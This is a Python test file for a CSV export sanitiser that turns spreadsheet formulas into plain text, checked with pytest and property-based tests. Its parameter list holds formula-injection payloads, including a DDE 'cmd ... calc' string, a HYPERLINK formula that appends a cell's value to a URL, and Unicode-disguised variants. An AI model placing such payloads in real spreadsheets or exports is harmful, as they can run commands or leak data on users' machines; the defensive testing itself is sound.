"""A CSV file that no spreadsheet executes."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from delivery.reporting.safe_csv import Cell, cell, harmless, written

SIGNS = "=+-@\N{MINUS SIGN}"


def starts_like_a_formula(text: str) -> bool:
    """Whether a spreadsheet that strips blanks and quotes could read the text as a formula."""
    shown = text.lstrip()
    first = shown[:1] if shown.startswith("'") else shown.lstrip('" ')[:1]
    return first != "" and unicodedata.normalize("NFKC", first) in SIGNS


def read(raw: bytes, delimiter: str = ",") -> list[list[str]]:
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://example.org/?"&A1,"see")',
        "+44 1522 782068",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1:1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " \u00a0\u3000=1+1",
        "\x00=1+1",
        "\x1b\x7f=1+1",
        "\u200b\ufeff\u202e=1+1",
        '"=1+1',
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "\u22121",
        "=\u0338 not equal, composed",
    ],
)
def test_a_formula_becomes_text(hostile: str) -> None:
    assert harmless(hostile).startswith("'")
    assert not starts_like_a_formula(harmless(hostile))


def test_a_formula_after_a_separator_becomes_text() -> None:
    assert harmless("a;=1+1") == "a;'=1+1"
    assert harmless('a;"=1+1') == "a;\"'=1+1"
    assert harmless("a, b; c-d | e") == "a, b; c-d | e"


@pytest.mark.parametrize("name", ["O’Neill", "Anne-Marie", "D'Arcy, Jo", "Łukasz", "B-1", "李雷"])
def test_harmless_text_is_unchanged(name: str) -> None:
    assert harmless(name) == name


def test_unprintable_characters_are_dropped_and_lines_joined() -> None:
    assert harmless("a\x00b\u202ec\r\nd\te\ud800") == "abc  d e"


def test_numbers_booleans_and_none_are_written_as_cells() -> None:
    assert [cell(value) for value in (0, -5, True, False, None, "")] == [0, -5, "yes", "no", "", ""]


def test_the_file_has_the_format_of_excel() -> None:
    raw = written(("a", "b"), [("x, y", 1), ('say "no"', None)])
    assert raw == b'\xef\xbb\xbfa,b\r\n"x, y",1\r\n"say ""no""",\r\n'


CELLS = st.one_of(st.none(), st.booleans(), st.integers(min_value=0), st.text())
PIECES = st.lists(
    st.one_of(st.sampled_from([*SIGNS, *";,|\t\"' \r\n\x00", "＝", "cmd"]), st.text())
)


@given(st.lists(st.tuples(CELLS, PIECES.map("".join), CELLS), min_size=1))
def test_no_cell_of_any_file_begins_like_a_formula(rows: list[tuple[Cell, ...]]) -> None:
    raw = written(("one", "two", "three"), rows)
    assert len(read(raw)) == len(rows) + 1
    for delimiter in (",", ";", "|", "\t"):
        for row in read(raw, delimiter):
            assert not [part for part in row if starts_like_a_formula(part)]


@given(st.text(st.sampled_from(SIGNS + "aZ09 ,;|'\"~{}:<!\t\u00e9\uff1d"), max_size=6))
def test_a_cell_is_what_harmless_makes_of_it(text: str) -> None:
    assert cell(text) == harmless(text)
